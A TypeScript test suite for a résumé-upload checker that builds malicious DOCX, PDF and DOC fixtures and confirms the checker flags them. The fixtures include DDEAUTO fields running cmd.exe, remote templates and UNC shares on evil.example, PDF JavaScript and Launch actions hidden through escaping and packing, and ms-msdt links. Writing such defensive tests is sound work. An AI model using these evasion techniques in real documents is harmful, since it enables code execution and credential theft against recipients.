import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { zlibSync } from 'fflate';
import { checkDocument, type DocumentCheck } from '#contract/documents/check';
import { fileSentences } from '#contract/files';
import { checkOffThread } from '#server/modules/applications/document-checker';
import {
  bytes,
  docx,
  field,
  latin1,
  linking,
  ole,
  packed,
  pdf,
  predicted,
  relations,
  stream,
  written,
  zip,
} from './make-documents';

const { active, linked, locked, cutOff, notADocument, otherFormat } = fileSentences;
type Sentence = (label: string) => string;
const isA =
  (format: string, ending?: string): Sentence =>
  (label) =>
    otherFormat(label, format, ending);
type Input = [name: string, made: Uint8Array, comes: 'accepted' | 'unchecked' | Sentence, called?: string];

const here = 'file:///C:\\Users\\Mary\\Templates\\Modern%20resume.dotx';
const script = '<</S/JavaScript/JS(app.alert(1))>>';
const link = 'https://developer.mozilla.org/en-US/docs/Web/JavaScript';
const picture = sharp({ create: { width: 300, height: 200, channels: 3, background: '#c8102e' } });
const noise = sharp(Buffer.from(Array.from({ length: 30_000 }, (_, at) => (at * 7919) % 251)), {
  raw: { width: 100, height: 100, channels: 3 },
});
const [jpg, png, withPreview] = await Promise.all([
  noise.clone().jpeg({ progressive: true }).toBuffer(),
  noise.clone().png().toBuffer(),
  picture.jpeg().toBuffer(),
]);
const half = (whole: Uint8Array) => whole.subarray(0, whole.length / 2);
const plain = await written();
const nobody = { ownerPassword: 'office', permissions: { printing: 'highResolution' } } as const;
const own = async (pdfVersion: '1.3' | '1.4' | '1.6' | '1.7ext3', userPassword = '') =>
  written({ ...nobody, userPassword, pdfVersion });
const [r2, r3, r4, r5] = await Promise.all([own('1.3'), own('1.4'), own('1.6'), own('1.7ext3')]);
const utf16 = (text: string) => bytes('\xff\xfe', new Uint8Array(Buffer.from(text, 'utf16le')));
const webTemplate = relations(['attachedTemplate', 'https://evil.example/a.dotm']);
const withRels = (rels: Uint8Array | string) => docx('', { 'word/_rels/document.xml.rels': rels });
const linearized = (length: number, rest: string) =>
  latin1(`%PDF-1.7\n1 0 obj\n<</Linearized 1/L ${length}>>\nendobj\nxref\nstartxref\n0\n%%EOF\n${rest}`);
const whole = linearized(linearized(100, 'startxref\n216\n%%EOF').length, 'startxref\n216\n%%EOF');

const replaced = (whole: Uint8Array, from: string, to: string) =>
  latin1(Buffer.from(whole).toString('latin1').replace(from, to));
const withTable = (whole: Uint8Array, place: string) =>
  bytes(whole, `\nxref\n9 1\n${`${Buffer.from(whole).indexOf(place)}`.padStart(10, '0')} 00000 n \n`);
const nested = (command: string, inside: string) => docx(field(`${command} `, field(inside), ' "x"'));
const embedding = (part: Uint8Array) =>
  docx('', {
    'word/_rels/document.xml.rels': relations(['package', 'chart/a.xlsx', '']),
    'word/chart/a.xlsx': part,
  });
function patched(whole: Uint8Array, mark: string, at: number, value: number): Uint8Array {
  const it = Buffer.from(whole);
  it.writeUInt32LE(value, it.lastIndexOf(mark) + at);
  return it;
}
/** The last entry's packed size in an extra field. */
function zip64(whole: Uint8Array): Uint8Array {
  const it = Buffer.from(whole);
  const [entry, end] = [it.lastIndexOf('PK\x01\x02'), it.lastIndexOf('PK\x05\x06')];
  const wide = bytes('\x01\0\x08\0', it.subarray(entry + 20, entry + 24), '\0\0\0\0');
  it.writeUInt16LE(wide.length, entry + 30);
  return patched(bytes(it.subarray(0, end), wide, it.subarray(end)), 'PK\x01\x02', 20, 0xffffffff);
}

const inputs: Record<string, Input[]> = {
  'a DOCX': [
    ['whose main part is word/document2.xml (B01)', docx('', {}, 'word/document2.xml'), 'accepted'],
    ['whose main part is elsewhere', docx('', {}, 'content/main.xml'), 'accepted'],
    ['with a [trash] folder (B02)', docx('', { '[trash]/0000.dat': 'old' }), 'accepted'],
    [
      'with what nothing leads to',
      docx('', { '[trash]/_rels/gone.xml.rels': webTemplate, 'readme.txt': 'x' }),
      'accepted',
    ],
    ['made from a template on the own disk (B03)', linking('attachedTemplate', here), 'accepted'],
    ['made from a template in a folder', linking('attachedTemplate', 'Templates/Resume.dotx'), 'accepted'],
    ['with links to click on', linking('hyperlink', link), 'accepted'],
    ['with a link to mail', linking('hyperlink', 'mailto:mary@example.com'), 'accepted'],
    ['with a link to the own disk', linking('hyperlink', 'file:///D:/cv.docx'), 'accepted'],
    ['with a chart', docx('', { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' }), 'accepted'],
    ['with page numbers', docx(field(' PAGE ', ' \\* MERGEFORMAT ')), 'accepted'],
    ['that writes of DDE', docx('<w:t>DDEAUTO INCLUDEPICTURE "http://x"</w:t>'), 'accepted'],
    [
      'with an own picture by a field',
      docx(field('INCLUDEPICTURE "C:\\\\Users\\\\Mary\\\\me.png"')),
      'accepted',
    ],
    ['with a tip of a link', docx(field('HYPERLINK "https://x.com" \\o "Data: // me"')), 'accepted'],
    ['with a picture of a mail', docx(field('INCLUDEPICTURE "cid:image001.png@01D" \\d')), 'accepted'],
    ['with a link without a scheme', linking('hyperlink', '//www.linkedin.com/in/x'), 'accepted'],
    ['with a link that does nothing', linking('hyperlink', 'javascript:void(0);'), 'accepted'],
    ['with a picture by a field in a field', nested('INCLUDEPICTURE', 'REF place'), 'unchecked'],
    ['with a command by a field in a field', nested('', 'QUOTE "DDEAUTO"'), 'unchecked'],
    ['with a field in a field in any other', nested('IF', 'PAGE'), 'accepted'],
    [
      'with a command by a simple field in a field',
      docx(field('<w:fldSimple w:instr="QUOTE 68 68 69"/>', ' c:\\\\cmd.exe')),
      active,
    ],
    [
      'with two instructions of a field',
      docx('<w:fldSimple x:instr="PAGE" w:instr="DDE cmd"/>'),
      'unchecked',
    ],
    ['with a field of a prefix in other letters', docx('<é:fldSimple é:instr="DDE cmd"/>'), active],
    ...[`xmlns:x=' Target="a.png"'`, 'x:Target="a.png"'].map((decoy): Input => [
      `with a target beside ${decoy}`,
      withRels(webTemplate.replace('Target=', `${decoy} Target=`)),
      linked,
    ]),
    ['with sizes of ZIP64', zip64(docx()), 'accepted'],
    ['with a directory of ZIP64', patched(docx(), 'PK\x05\x06', 16, 0xffffffff), 'unchecked'],
    [
      'with macros past the count of its directory',
      patched(docx('', { 'word/vbaProject.bin': 'x' }), 'PK\x05\x06', 8, 0x00030003),
      active,
    ],
    ['with an embedding of no office', docx('', { 'word/embeddings/a.dat': 'x' }), active],
    ['with an OLE as a package', embedding(ole(['Package'])), active],
    ['with macros in its chart', embedding(zip({ 'xl/vbaProject.bin': 'x' })), active],
    [
      'with a chart that links elsewhere',
      embedding(zip({ 'xl/_rels/a.xml.rels': webTemplate })),
      'unchecked',
    ],
    ...[
      '%5c%5cevil%5cx%zz',
      '\\??\\UNC\\evil\\x',
      '\\\\?\\GLOBALROOT\\Device\\Mup\\evil',
      'file:///C:/a.exe',
    ].map((place): Input => [`with a link to ${place}`, linking('hyperlink', place), linked]),
    ['with a huge picture', docx('', { 'word/media/a.bmp': new Uint8Array(30_000_000) }), 'accepted'],
    ['with macros', docx('', { 'word/vbaProject.bin': 'x' }), active],
    ['with macros under another name', linking('vbaProject', 'media/image1.png', ''), active],
    [
      'of macros by its type',
      docx('', {}, 'word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      active,
    ],
    ['with an OLE embedding', docx('', { 'word/embeddings/oleObject1.bin': 'x' }), active],
    ['with an OLE embedding under another name', linking('oleObject', 'media/image1.png', ''), active],
    ['with a program', docx('', { 'word/run.exe': 'MZ' }), active],
    ['with a page of HTML', linking('aFChunk', 'afchunk.dat', ''), active],
    ['that is a JAR too', docx('', { 'META-INF/MANIFEST.MF': 'x' }), active],
    ['with a field DDEAUTO', docx(field('DDEAUTO c:\\\\cmd.exe')), active],
    ['with DDE in pieces', docx(field('DD', 'E c:\\\\cmd.exe')), active],
    ['with DDE by numbers', docx(field(field('QUOTE 68 68 69 65 85 84 79'), ' "cmd"')), active],
    ['with a simple field', docx('<w:fldSimple w:instr="&#68;DE cmd"/>'), active],
    [
      'with a picture from elsewhere by a field',
      docx(field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
      linked,
    ],
    [
      'with a text from a share, in a footer',
      docx('', {
        'word/_rels/document.xml.rels': relations(['footer', '/word/foot.xml', '']),
        'word/foot.xml': field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"'),
      }),
      linked,
    ],
    ['with a template elsewhere', withRels(webTemplate), linked],
    [
      'with settings that nothing leads to',
      docx('', { 'word/_rels/settings.xml.rels': webTemplate }),
      linked,
    ],
    ['with a template on a share', linking('attachedTemplate', 'file://///evil/share/a.dotm'), linked],
    ['with a picture on a share', linking('image', '\\\\evil\\share\\a.png'), linked],
    ['with a link to a share', linking('hyperlink', 'file://evil/share/a.docx'), linked],
    ['with a link to a share, escaped', linking('hyperlink', 'file:%5C%5Cevil\\a'), linked],
    [
      'with a relation by character references',
      linking('image', '&#0000000104;ttp&#x3a;//evil.example/', 'TargetMode="Ext&#101;rnal"'),
      linked,
    ],
    ['with relations in UTF-16', withRels(utf16(webTemplate)), linked],
    ['with a DOCTYPE in its relations', withRels(`<!DOCTYPE a [<!ENTITY e "x">]>${relations()}`), linked],
    ['with relations in another case', docx('', { 'Word/_RELS/Document.XML.rels': webTemplate }), linked],
    [
      'with a password of its ZIP',
      (() => {
        const it = docx();
        it[Buffer.from(it).lastIndexOf('PK\x01\x02') + 8]! |= 1;
        return it;
      })(),
      locked,
    ],
    ['without a directory', docx().subarray(0, -30), cutOff],
    [
      'of too many relations',
      docx('', {
        'word/_rels/document.xml.rels': relations(
          ...Array.from({ length: 600 }, (_, at): [string, string, string] => ['header', `h${at}.xml`, '']),
        ),
        ...Object.fromEntries(
          Array.from({ length: 600 }, (_, at) => [`word/_rels/h${at}.xml.rels`, relations()]),
        ),
      }),
      'unchecked',
    ],
    ['that unpacks into too much', docx('a'.repeat(20_000_000)), 'unchecked'],
  ],
  'a PDF': [
    ['as it was written', plain, 'accepted'],
    ['with bytes after its end', bytes(plain, '\n<!-- a page of a Wi-Fi portal -->'), 'accepted'],
    ['whose last line was lost', plain.subarray(0, Buffer.from(plain).lastIndexOf('%%EOF')), 'accepted'],
    ['linearized', whole, 'accepted'],
    ['linearized and changed', bytes(whole, '2 0 obj<<>>endobj startxref\n216\n%%EOF\n'), 'accepted'],
    ['linearized, written anew and shorter', linearized(90_000, 'startxref\n216\n%%EOF'), 'accepted'],
    ['with a link to a page about scripts (B05)', pdf('', `<</S/URI/URI(${link})>>`), 'accepted'],
    [
      'that writes of HTML/CSS/JavaScript (B05a)',
      pdf('', stream('', 'BT (HTML/CSS/JavaScript) Tj ET << /S /JavaScript >>')),
      'accepted',
    ],
    ['that comments on scripts', pdf('', '<</A 1 % /S /JavaScript\n>>'), 'accepted'],
    ['with a link to scripts, packed (B05b)', pdf('', packed(`<</S/URI/URI(${link})>>`)), 'accepted'],
    ['with names that begin alike', pdf('', '<</S/JavaScripts/Launcher 1/EmbeddedFileless 2>>'), 'accepted'],
    [
      'with empty trees of scripts and files',
      pdf('/Names<</JavaScript<</Names[]>>/EmbeddedFiles 4 0 R>>', '<</Names[]>>'),
      'accepted',
    ],
    ['that opens at a page', pdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>'), 'accepted'],
    ['with a link to the file beside it', pdf('', '<</S/GoToR/F(letter.pdf)/D[0/Fit]>>'), 'accepted'],
    [
      'with a form of data (XFA)',
      pdf('/AcroForm<</XFA[(datasets)4 0 R]>>', stream('', '<xfa:data/>')),
      'accepted',
    ],
    ['with an owner password, R 2 (B04)', r2, 'accepted'],
    ['with an owner password, R 3', r3, 'accepted'],
    ['with an owner password, R 4', r4, 'accepted'],
    ['with an owner password, R 5', r5, 'accepted'],
    [
      'with an owner password, its key stated in bytes',
      replaced(r3, '/Length 128', '/Length 16 '),
      'accepted',
    ],
    ['with a link, encrypted', await written({ ...nobody, link: 'https://x.com' }), 'accepted'],
    ['with a link to a program, encrypted', await written({ ...nobody, link: 'ms-msdt:/id' }), linked],
    [
      'with elements named as actions',
      pdf('', '<</Type/StructElem/S/JavaScript/K 0>>', '<</S/Launch/P 4 0 R/K 0>>'),
      'accepted',
    ],
    [
      'with fonts named as keys',
      pdf('', '<</Font<</EF 5 0 R/JS 5 0 R/S 5 0 R>>>>', '<</Type/Font>>'),
      'accepted',
    ],
    ['whose title shows a script', pdf('', `<</Title(obj ${script})>>`), 'accepted'],
    ['that loses an object', pdf('', '<</Font 99 0 R/Kids[98 0 R]>>'), 'accepted'],
    ['with a password, R 2', await own('1.3', 'sekret'), locked],
    ['with a password, R 4', await own('1.6', 'sekret'), locked],
    ['with a password, R 5', await own('1.7ext3', 'sekret'), locked],
    ['for the holder of a certificate', bytes(pdf(), 'trailer<</Encrypt<</Filter/Adobe.PubSec>>>>'), locked],
    ['of a handler nobody knows', bytes(pdf(), 'trailer<</Encrypt<</Filter/Own>>>>'), 'unchecked'],
    ['nine bytes', latin1('%PDF-1.7\n'), cutOff],
    ['cut off', half(plain), cutOff],
    ['linearized, cut off', whole.subarray(0, -19), cutOff],
    ['with a script', pdf('', script), active],
    ['with a script by an escaped name', pdf('', '<</S/Java#53cript>>'), active],
    ['with a script by reference', pdf('/OpenAction 4 0 R', '<</S 5 0 R/JS(x)>>', '/JavaScript'), active],
    ['with a script behind a brace', pdf('', '((', script), active],
    [
      'with a script in what looks like a stream',
      pdf('', stream('', `\n9 0 obj ${script} endobj\n`)),
      'unchecked',
    ],
    ['with two actions of a name', pdf('', '<</S/URI/S/JavaScript>>'), active],
    ['with a named script', pdf('/Names<</JavaScript<</Names[(a)4 0 R]>>>>', '<<>>'), active],
    ['with a packed script', pdf('', packed(script)), active],
    ['with a packed script without /Type (N5)', pdf('', packed(script, { dict: '' })), active],
    [
      'with a packed script, its /Type a reference (N5)',
      pdf('', packed(script, { dict: '/Type 5 0 R' }), '/ObjStm'),
      active,
    ],
    [
      'with a packed script and a predictor (N5)',
      pdf(
        '',
        packed(script, {
          filter: '/Filter[/Fl#61teDecode]/DecodeParms<</Predictor 12/Columns 5>>',
          pack: (of) => predicted(of, 5),
        }),
      ),
      active,
    ],
    [
      'with a script in what looks like a stream, where a table leads',
      withTable(pdf('', stream('', `\n9 0 obj ${script} endobj\n`)), '9 0 obj'),
      active,
    ],
    ...['4 0 %c\nobj', `4 ${' '.repeat(30)}0 obj`].map((head): Input => [
      `with a script behind ${head.length} letters`,
      replaced(pdf('/OpenAction<</S 4 0 R/JS(x)>>', '/JavaScript'), '4 0 obj', head),
      active,
    ]),
    ['with an action by two references', pdf('/OpenAction<</S 4 0 R>>', '5 0 R', '/Launch'), 'unchecked'],
    ['with an action that nothing is', pdf('/OpenAction<</S 99 0 R>>'), 'unchecked'],
    [
      'with an action of many',
      bytes(pdf('/OpenAction<</S 4 0 R>>', '/Launch'), '4 0 obj/GoTo endobj\n'.repeat(12)),
      'unchecked',
    ],
    [
      'whose table leads into a number',
      withTable(bytes(pdf(), '14 0 obj/X endobj'), '4 0 obj/X'),
      'unchecked',
    ],
    ['with a script of two counts', pdf('', packed(script, { dict: '/N 0' })), active],
    ['with a script of a model', pdf('', '<</Type/3D/OnInstantiate 3 0 R>>'), active],
    ['with an address that says UTF-8', pdf('', '<</S/GoToR/F<efbbbf5c5c6576696c5c78>>>'), linked],
    ...['javascript:app.alert(1)', 'file:///C:/calc.exe', 'file://evil/a', 'ms-msdt:/id', 'search-ms:q'].map(
      (place): Input => [`with a link to ${place}`, pdf('', `<</S/URI/URI(${place})>>`), linked],
    ),
    ...['<a-b:script>', '<execute/>', '<wsdlAddress>'].map((tag): Input => [
      `with a form of ${tag}`,
      pdf('/AcroForm<</XFA 4 0 R>>', stream('', tag)),
      active,
    ]),
    [
      'with a form in pieces',
      pdf('/AcroForm<</XFA[(a)4 0 R(b)5 0 R]>>', stream('', '<scr'), stream('', 'ipt>')),
      active,
    ],
    [
      'with a form that loads',
      pdf('/AcroForm<</XFA 4 0 R>>', stream('', '<image href="http://evil.example"/>')),
      'unchecked',
    ],
    ['that starts a program', pdf('', '<</S/Launch/F(cmd.exe)>>'), active],
    ['with a file inside', pdf('', stream('/Type/EmbeddedFile', 'MZ')), active],
    ['with a file named inside', pdf('', '<</Type/Filespec/EF<</F 9 0 R>>>>'), active],
    ...['SubmitForm', 'ImportData', 'Rendition', 'GoToE'].map((action): Input => [
      `that does ${action}`,
      pdf('', `<</S/${action}>>`),
      active,
    ]),
    ['with rich media', pdf('', '<</Subtype/RichMedia>>'), active],
    [
      'with a form that runs (XFA)',
      pdf(
        '/AcroForm<</XFA 4 0 R>>',
        stream('/Filter/FlateDecode', zlibSync(latin1('<script contentType="application/x-javascript">'))),
      ),
      active,
    ],
    ['that opens a share', pdf('', '<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)>>'), linked],
    [
      'that opens a file of the web',
      pdf('', '<</S/GoToR/F<</FS/URL/F(http://evil.example/a.pdf)>>>>'),
      linked,
    ],
    ['that opens a page by itself', pdf('/OpenAction<</S/URI/URI(http://evil.example)>>'), linked],
    [
      'that opens a page by itself, in a chain',
      pdf('/OpenAction 4 0 R', '<</S/GoTo/Next[5 0 R]>>', '<</S/URI>>'),
      linked,
    ],
    ['that opens a page with its second one', pdf('', '<</AA<</O 5 0 R>>>>', '<</S/URI>>'), linked],
    ['whose stream is elsewhere', pdf('', stream('/F(http://evil.example/a)', '')), linked],
    [
      'that packs its objects as nobody does',
      pdf('', packed(script, { filter: '/Filter/LZWDecode' })),
      'unchecked',
    ],
    [
      'that unpacks into too much (N1)',
      pdf('', ...Array.from({ length: 15 }, () => packed('#41'.repeat(1_300_000)))),
      'unchecked',
    ],
    ['of a name of escapes', pdf('', `<</S/${'#41'.repeat(1_600_000)}>>`), 'unchecked'],
    ['of a thousand open strings', pdf('', ...Array<string>(2000).fill(`(${'x'.repeat(1000)}`)), 'unchecked'],
  ],
  'a DOC': [
    ['as Word writes it', ole(['WordDocument', '1Table']), 'accepted'],
    ['that writes of macros', ole(['WordDocument'], { text: 'Macros _VBA_PROJECT' }), 'accepted'],
    ['with macros that were taken out', ole(['WordDocument'], { loose: ['Macros'] }), 'accepted'],
    ['with macros', ole(['WordDocument', '1Table', 'Macros', '_VBA_PROJECT']), active],
    ['with macros in small letters', ole(['worddocument', 'vba']), active],
    ['of fields alone', bytes(ole(['WordDocument']), '\x13'.repeat(5_000_000)), 'accepted'],
    ['of open fields alone', bytes(ole(['WordDocument']), '\x13LINK a '.repeat(500_000)), 'unchecked'],
    [
      'with a picture by a field in a field',
      ole(['WordDocument'], { text: '\x13INCLUDEPICTURE \x13REF a\x15\x15' }),
      'unchecked',
    ],
    ['with a packed file', ole(['WordDocument', 'ObjectPool', '\x01Ole10Native']), active],
    ['with a field DDEAUTO', ole(['WordDocument'], { text: '\x13 DDEAUTO c:\\cmd.exe \x14' }), active],
    [
      'with a picture from elsewhere',
      ole(['WordDocument'], { text: '\x13INCLUDEPICTURE "http://evil.example/a.png"\x14' }),
      linked,
    ],
    ['with a password', ole(['WordDocument'], { flags: 0x0100 }), locked],
    ['that is a DOCX with a password (B29)', ole(['EncryptedPackage', 'EncryptionInfo']), locked, 'cv.docx'],
    ['that is RTF (B30)', latin1('{\\rtf1\\ansi Mary}'), isA('RTF', 'doc'), 'CV.DOC'],
    ['that is HTML', utf16('<html xmlns:w="x"><body>'), isA('HTML', 'doc'), 'cv.doc'],
    ['that is XLS', ole(['Workbook']), isA('Excel (XLS)', 'doc'), 'cv.doc'],
  ],
  'another file': [
    ['RTF', latin1('{\\rtf1 Mary}'), isA('RTF'), 'cv.rtf'],
    [
      'ODT (B30c)',
      zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '' }),
      isA('OpenDocument (ODT)'),
      'cv.odt',
    ],
    ['Pages', zip({ 'Index/Document.iwa': 'x' }), isA('Pages'), 'cv.pages'],
    [
      'XLSX',
      docx(
        '',
        {},
        'xl/workbook.xml',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      ),
      isA('Excel (XLSX)', 'docx'),
      'cv.docx',
    ],
    [
      'PPTX',
      docx(
        '',
        {},
        'ppt/presentation.xml',
        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
      ),
      isA('PowerPoint (PPTX)'),
      'cv.pptx',
    ],
    ['a ZIP', zip({ 'cv.docx': docx() }), isA('ZIP'), 'cv.zip'],
    ['an MSI', ole(['xWordDocumentx']), notADocument],
    ['a program', latin1('MZ\x90\0'), notADocument, 'cv.pdf'],
  ],
  'a picture': [
    ['JPG', jpg, 'accepted'],
    ['JPG with a film behind it', bytes(jpg, '\0\0\0\x18ftypmp42'), 'accepted'],
    ['PNG', png, 'accepted'],
    ['half a JPG (B07)', half(jpg), cutOff],
    [
      'half a JPG with a whole preview',
      bytes(
        '\xff\xd8\xff\xe1',
        Uint8Array.of((withPreview.length + 2) >> 8, (withPreview.length + 2) & 255),
        withPreview,
        half(jpg).subarray(2),
      ),
      cutOff,
    ],
    ['half a PNG', half(png), cutOff],
  ],
};

const asExpected = (comes: Input[2]) =>
  typeof comes === 'function'
    ? { ok: false, problem: { code: 'unsupported_file', sentence: comes('Resume') } }
    : { ok: true, kind: expect.any(String) as string, isChecked: comes === 'accepted' };

const all = Object.entries(inputs).flatMap(([kind, of]) =>
  of.map(([name, ...rest]): Input => [`${kind}: ${name}`, ...rest]),
);

describe('on the phone', () => {
  test.each(all)('%s', (_, made, comes, called) => {
    const started = performance.now();
    expect(checkDocument('resume', made, called)).toEqual(asExpected(comes));
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

test('the server says the same of each, from a thread of its own', async () => {
  const answers = await Promise.all(
    all.map(([, made, , called = ''], id) =>
      checkOffThread({ id, isApproved: id % 2 === 0 }, { field: 'resume', name: called, bytes: made }),
    ),
  );
  const expected = all.map(([, made, , called]): DocumentCheck => checkDocument('resume', made, called));
  expect(answers).toEqual(expected);
});
